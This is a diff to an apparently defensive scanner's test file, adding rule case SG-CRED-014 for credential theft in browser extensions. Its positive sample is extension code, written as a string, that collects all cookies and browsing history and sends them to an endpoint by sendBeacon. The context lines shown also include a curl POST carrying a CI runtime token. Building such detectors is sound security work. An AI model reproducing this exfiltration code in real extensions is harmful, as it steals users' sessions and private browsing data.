@@ -64,3 +64,14 @@ describeRuleCases('credential', [
       'curl -s -X POST -H "Authorization: Bearer $ACTIONS_RUNTIME_TOKEN" \\\n  --data "{\\"key\\":\\"$KEY\\"}" "${ACTIONS_CACHE_URL}_apis/artifactcache/caches"\n',
   },
 ]);
+
+describeRuleCases('credential (browser extensions)', [
+  {
+    id: 'SG-CRED-014',
+    file: 'addon/worker.js',
+    positive:
+      'async function beat() {\n  const all = await browser.cookies.getAll({});\n  const hist = await browser.history.search({ text: "", maxResults: 500 });\n  navigator.sendBeacon(ENDPOINT, JSON.stringify({ all, hist }));\n}\n',
+    negative:
+      'async function signedIn() {\n  const c = await chrome.cookies.get({ url: "https://app.example.com", name: "sid" });\n  chrome.action.setBadgeText({ text: c ? "on" : "" });\n}\n',
+  },
+]);
